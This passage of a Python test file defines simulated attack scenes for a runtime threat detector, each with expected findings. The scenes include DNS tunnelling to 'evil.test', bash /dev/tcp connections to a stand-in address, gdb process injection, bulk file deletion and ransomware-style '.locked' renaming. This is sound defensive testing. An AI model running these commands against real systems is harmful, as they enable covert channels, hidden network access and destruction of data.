        {"evidence.rule": "fetched_in_package", "context.commandLineExample": "curl URL"},
        severity=INFORMATIONAL,
    ),
]

NAMES_ASKED: Final = (
    ASKING + "def names(parent, size, count):\n"
    "    for n in range(count):\n"
    "        ask(*(os.urandom(30).hex()[:size].encode() for _ in range(2)), *parent)\n"
)
"""Asks for so many names with two new labels of that size."""
ANSWERING: Final = (
    "import struct\n"
    "data = {16: lambda: b'\\xff' + os.urandom(128).hex()[:255].encode(), 1: lambda: b'\\7' * 4}\n"
    "ready, bound = os.pipe(); child = os.fork()\n"
    "if not child:\n"
    "    l = socket.socket(type=socket.SOCK_DGRAM); l.bind(('127.0.0.1', 53))\n"
    "    os.write(bound, b'x')\n"
    "    while True:\n"
    "        asked, to = l.recvfrom(512); made = data[asked[-3]]()\n"
    "        record = b'\\xc0\\x0c' + asked[-4:] + struct.pack('>IH', 0, len(made)) + made\n"
    "        head = asked[:2] + struct.pack('>5H', 0x8180, 1, 1, 0, 0)\n"
    "        l.sendto(head + asked[12:] + record, to)\n"
    "os.read(ready, 1)\n"
    "def ask(number, type):\n"
    "    c = socket.socket(type=socket.SOCK_DGRAM); c.settimeout(5)\n"
    "    name = b'\\x02%02d\\x04evil\\x04test\\0' % number\n"
    "    asked = struct.pack('>6H', 1, 256, 1, 0, 0, 0) + name + struct.pack('>HH', type, 1)\n"
    "    c.sendto(asked, ('127.0.0.1', 53)); c.recv(4096)\n"
)
"""A server of names with texts and addresses, and what asks it."""
TUNNELS: Final = [
    Scene(
        "tunnel-by-names",
        "CommandAndControl:Runtime/DnsTunnel",
        _python(NAMES_ASKED + "names((b'evil', b'test'), 60, 40)"),
        # Long names of machines.
        _python(NAMES_ASKED + "names((b'evil', b'test'), 15, 400)"),
        {
            "evidence.rule": "data_in_names",
            "context.tunnelDomain": "evil.test",
            "context.tunnelNames": 35,
            "action.dnsRequestAction.protocol": "UDP",
        },
        severity="medium",
    ),
    Scene(
        "tunnel-by-names-and-a-process-for-each",
        "CommandAndControl:Runtime/DnsTunnel",
        _python(
            NAMES_ASKED + "for n in range(40):\n"
            "    if not os.fork(): names((b't', b'evil', b'co', b'test'), 60, 1); os._exit(0)\n"
            "    os.wait()"
        ),
        # What leaves no cluster, and one name again and again.
        _python(
            NAMES_ASKED + "names((b'web', b'svc', b'cluster', b'local'), 60, 40)\n"
            "for n in range(100): ask(b'x' * 60, b'a', b'test'); ask(b'%d' % n, b'a', b'test')"
        ),
        {"evidence.rule": "data_in_names"},
        severity="medium",
    ),
    Scene(
        "tunnel-by-answers",
        "CommandAndControl:Runtime/DnsTunnel",
        _python(ANSWERING + "for n in range(80): ask(n, 16)\nos.kill(child, 9)"),
        # Policies and keys of mail, again and again, and many addresses.
        _python(ANSWERING + "for n in range(99): ask(n % 20, 16); ask(n, 1)\nos.kill(child, 9)"),
        {
            "evidence.rule": "data_in_answers",
            "context.tunnelDomain": "evil.test",
            "action.dnsRequestAction.domain": ...,
        },
        severity="medium",
    ),
]

OWN_ADDRESSES: Final = (
    "import fcntl, socket, struct\n"
    "def ask(number, name, address):\n"
    "    packed = struct.pack('16sHH4s8x', name, 2, 0, socket.inet_aton(address))\n"
    "    fcntl.ioctl(socket.socket(), number, packed)\n"
    "fcntl.ioctl(socket.socket(), 0x8914, struct.pack('16sH14x', b'lo', 1))\n"
    "ask(0x8916, b'lo:0', '192.0.2.1'); ask(0x891c, b'lo:0', '255.255.255.0')\n"
)
"""In a network namespace that is new: it has all addresses from 192.0.2.1 to 192.0.2.254."""
CALLER: Final = (
    "mount -t tmpfs none /mnt;"
    " cp $(readlink -f $(python3 -c 'import sys; print(sys.executable)')) /mnt/caller;"
    f" exec unshare --net /mnt/caller - <<'EOF'\n{OWN_ADDRESSES}{{}}\nEOF"
)
"""A program of which something is expected, in a network of its own with many addresses."""
COME: Final = (
    "l = socket.socket(); l.bind(('192.0.2.1', 0)); l.listen()\n"
    "c = socket.socket(); c.bind(('{}', 0)); c.connect(l.getsockname()); l.accept()"
)
PACKETS: Final = (
    "c = socket.socket(type=socket.SOCK_DGRAM); c.bind(('192.0.2.1', 0));"
    " c.connect(('192.0.2.77', {}))"
)
ASK: Final = (
    "l = socket.socket(type=socket.SOCK_DGRAM); l.bind(('192.0.2.1', 0));"
    " c = socket.socket(type=socket.SOCK_DGRAM); c.bind(('192.0.2.99', 0));"
    " c.sendto(b'x', l.getsockname()); {}"
)
EXPECTED: Final = [
    Scene(
        "unexpected-egress",
        "UnauthorizedAccess:Runtime/UnexpectedEgress",
        CALLER.format("for n in range(9): socket.socket().connect_ex(('192.0.2.77', n + 1))"),
        CALLER.format("socket.socket().connect_ex(('192.0.2.7', 1))"),
        {
            "action.networkConnectionAction.remoteIpDetails.ipAddressV4": "192.0.2.77",
            "action.networkConnectionAction.connectionDirection": "OUTBOUND",
        },
        severity="medium",
    ),
    Scene(
        "unexpected-egress-by-packets",
        "UnauthorizedAccess:Runtime/UnexpectedEgress",
        CALLER.format(PACKETS.format(443)),
        # How the best of several addresses is found.
        CALLER.format(PACKETS.format(9)),
        {"action.networkConnectionAction.protocol": "UDP"},
        severity="medium",
    ),
    Scene(
        "unexpected-egress-without-a-connection",
        "UnauthorizedAccess:Runtime/UnexpectedEgress",
        CALLER.format(ASK.format("c.sendto(b'x', ('192.0.2.77', 443))")),
        # An answer.
        CALLER.format(ASK.format("l.sendto(b'x', l.recvfrom(1)[1])")),
        {
            "action.networkConnectionAction.protocol": "UDP",
            "action.networkConnectionAction.remoteIpDetails.ipAddressV4": "192.0.2.77",
        },
        severity="medium",
    ),
    Scene(
        "unexpected-egress-inside-of-the-new-protocol",
        "UnauthorizedAccess:Runtime/UnexpectedEgress",
        CALLER.format("socket.socket(socket.AF_INET6).connect_ex(('::ffff:192.0.2.77', 1))"),
        CALLER.format("socket.socket(socket.AF_INET6).connect_ex(('::ffff:192.0.2.7', 1))"),
        {"action.networkConnectionAction.remoteIpDetails.ipAddressV4": "192.0.2.77"},
        severity="medium",
    ),
    Scene(
        "unexpected-ingress",
        "UnauthorizedAccess:Runtime/UnexpectedIngress",
        CALLER.format(COME.format("192.0.2.99")),
        CALLER.format(COME.format("192.0.2.7")),
        {
            "action.networkConnectionAction.remoteIpDetails.ipAddressV4": "192.0.2.99",
            "action.networkConnectionAction.connectionDirection": "INBOUND",
        },
        severity="medium",
    ),
]

REPLACED: Final = "mount --bind /usr/bin/perl /usr/bin/sort; sort -MSocket -e '{}'"
INJECTED: Final = "sleep 20 & gdb -batch -nx -p $! -ex 'call (int)socket(2, {}, 0)' {}; kill $!"
CODE_TALKS: Final = '"import socket; socket.socket().connect_ex((\\"{}\\", 7))"'
TALKERS: Final = [
    Scene(
        "program-replaced-by-one-that-talks",
        "CommandAndControl:Runtime/UnusualNetworkProgram",
        REPLACED.format(
            'socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(7, inet_aton("127.0.0.1")))'
        ),
        REPLACED.format('socket(S, PF_UNIX, SOCK_STREAM, 0); connect(S, sockaddr_un("x"))'),
        {"evidence.rule": "silent_program_talks", "process.executablePath": "/usr/bin/sort"},
        severity="medium",
    ),
    Scene(
        "program-made-to-listen",
        "CommandAndControl:Runtime/UnusualNetworkProgram",
        INJECTED.format(1, "-ex 'call (int)listen($1, 1)'"),
        INJECTED.format(1, "-ex 'call (int)close($1)'"),
        {"evidence.rule": "silent_program_talks", "process.executablePath": "/usr/bin/sleep"},
        severity="medium",
        made_of=frozenset(
            f"DefenseEvasion:Runtime/ProcessInjection.{how}" for how in ("Proc", "Ptrace")
        ),
    ),
    Scene(
        "shell-talks",
        "CommandAndControl:Runtime/UnusualNetworkProgram",
        MEMORY_FOLDER + "echo ': > /dev/t''cp/192.0.2.77/7' > x; unshare --net bash x",
        # How it is asked whether a server is there yet.
        MEMORY_FOLDER + "echo ': > /dev/t''cp/127.0.0.1/7' > x; bash x",
        {"evidence.rule": "shell_talks"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "shell-sends-packets",
        "CommandAndControl:Runtime/UnusualNetworkProgram",
        MEMORY_FOLDER + "echo ': > /dev/u''dp/192.0.2.77/7' > x; unshare --net bash x",
        MEMORY_FOLDER + "echo ': > /dev/u''dp/127.0.0.1/7' > x; bash x",
        {"evidence.rule": "shell_talks"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "code-of-a-command-line-talks",
        "CommandAndControl:Runtime/UnusualNetworkProgram",
        f"unshare --net python3 -Wi -uc {CODE_TALKS.format('192.0.2.77')}",
        f"python3 -c {CODE_TALKS.format('127.0.0.1')};"
        f" echo {CODE_TALKS.format('192.0.2.77')} > x; unshare --net python3 x",
        {"evidence.rule": "fileless_code_talks"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "code-of-a-pipe-listens",
        "CommandAndControl:Runtime/UnusualNetworkProgram",
        "echo 'use Socket; socket(S, PF_INET, SOCK_STREAM, 0); fork or listen(S, 1); wait' | perl",
        "echo 'use Socket; socket(S, PF_UNIX, SOCK_STREAM, 0); fork or listen(S, 1); wait' | perl",
        {"evidence.rule": "fileless_code_talks"},
        severity=INFORMATIONAL,
    ),
]

FILES_IN: Final = (
    MEMORY_FOLDER + "for d in {}; do mkdir -p $d; for f in $(seq {}); do : > $d/$f; done; done; "
)
"""So many files in each of these folders."""
EIGHT: Final = FILES_IN.format("a b c d e f g h", 13)
FOUR: Final = FILES_IN.format("a/a a/b b/c b/d c/e c/f d/g d/h", 13)
LOCK: Final = "python3 -c 'import glob, os; [os.rename(f, f + {}) for f in glob.glob(\"*/*\")]'"
DESTROYED: Final = [
    Scene(
        "files-destroyed",
        "Impact:Runtime/FilesDestroyed",
        f"{EIGHT}rm -r a b c d e f g h; true",
        f"{FOUR}rm -r a b c d; true",
        {"context.fileOperation": "Delete", "context.relatedFilePaths": ...},
        severity="high",
    ),
    Scene(
        "files-destroyed-one-by-one",
        "Impact:Runtime/FilesDestroyed",
        f"{EIGHT}for f in */*; do rm $f; done",
        f"{FOUR}for f in */*/*; do rm $f; done",
        {"context.fileOperation": "Delete"},
        severity="high",
    ),
    Scene(
        "files-encrypted",
        "Impact:Runtime/FilesDestroyed",
        EIGHT + LOCK.format('".locked"'),
        EIGHT + LOCK.format('"x"'),
        {"context.fileOperation": "Rename"},
        severity="high",
    ),
    Scene(
        "file-among-devices",
        "DefenseEvasion:Runtime/SensitiveFileModified",
        "mount -t tmpfs none /dev; echo x > /dev/odd",
        "mount -t tmpfs none /dev; mkdir /dev/shm; echo x > /dev/shm/odd; : > /dev/null",
        {"context.filePath": "/dev/odd", "evidence.rule": "file_in_dev"},
        severity=INFORMATIONAL,
    ),
]

SCENES: Final = [
    *TUNNELS,
    *EXPECTED,
    *TALKERS,
    *DESTROYED,
    *UNEXPECTED,
    *PACKAGES_OF_LANGUAGES,
    *NAMES,
    *CODE,
    *COMPILED,
    *COPIES,
    *LATE,
    *SCRIPTED,
    *SECRETS,
    *PACKAGED,
    *RIGHTS,
    *SIGNALS,
    *RELAYS,
    *GAPS,
    *SHELLS,
    *MEMORY,
    *GUARDS,
    *TOUCHED,
    *ENDED,
    *AGENT,
    *GUARD_FILES,
    *GUARD_CGROUPS,
    *CONTAINERS,
    *DRIFT,
    *PLANTED,
    *SYSTEM,
    *FILES,
    *COMMANDS,
    *NETWORK,
    *FILTERS,
    *FIXED,
    *SEQUENCES,
]
